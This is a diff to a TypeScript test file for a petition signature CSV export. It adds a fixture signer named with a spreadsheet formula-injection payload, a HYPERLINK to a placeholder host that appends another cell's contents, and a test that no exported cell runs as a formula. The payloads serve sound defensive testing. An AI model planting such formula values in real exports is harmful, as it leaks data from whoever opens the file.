@@ -1,6 +1,7 @@
 import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, it } from "vitest";
 import { prepareDatabase, storedRows } from "@/test/database";
+import { cellsReadBy, readers, runsAsFormula } from "@/test/spreadsheet";
 import { exportHeader, signatureExport } from "./signature-export";
 import { signCampaign } from "./signatures";
 
@@ -24,6 +25,12 @@ beforeAll(async () => {
     country: "GB",
     comment: '+SUM(1,2), said "they"\nthen left',
     wantsUpdates: true,
+  });
+  await signCampaign(slug, {
+    fullName: 'Ann;=HYPERLINK("http://x.example/?"&C2)',
+    email: "semicolon@example.org",
+    country: "FR",
+    comment: "merci\n=1+1;@SUM(A1)\t-2",
   });
   // More than one range of the export (2,500 rows on SQLite), so it arrives in several chunks.
   for (let i = 0; i < 3_000; i++) {
@@ -54,6 +61,13 @@ describe("signatureExport", () => {
     expect(hostile[1]).toBe("'=HYPERLINK(\"http://evil.example\")");
     expect(hostile[5]).toBe("'+SUM(1,2), said \"they\"\nthen left");
     expect(hostile[7]).toBe("yes");
+  });
+
+  it.each(readers)("holds no cell a spreadsheet would run as a formula, split on %j", async (reader) => {
+    const found = await signatureExport(slug, { actor: "organiser@example.org" });
+    const cells = cellsReadBy(reader, Buffer.concat(await collect(found!.chunks)).toString("utf8"));
+    expect(cells.length).toBeGreaterThan(3_000);
+    expect(cells.filter(runsAsFormula)).toEqual([]);
   });
 
   it("lets signing go on during an export", async () => {
